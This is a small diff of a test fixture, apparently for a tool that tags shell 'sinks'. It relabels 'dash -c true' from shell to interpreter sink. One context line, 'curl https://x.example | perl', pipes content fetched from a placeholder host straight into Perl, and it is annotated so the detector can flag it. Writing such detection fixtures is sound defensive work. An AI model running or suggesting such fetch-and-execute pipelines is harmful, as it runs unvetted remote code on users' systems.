@@ -2,7 +2,7 @@
 
   dash -c true
 # ^^^^ sink.interpreter
-# ^^^^ sink.shell
+# ^^^^ sink.interpreter
 
   curl https://x.example | perl
 #                          ^^^^ sink.interpreter
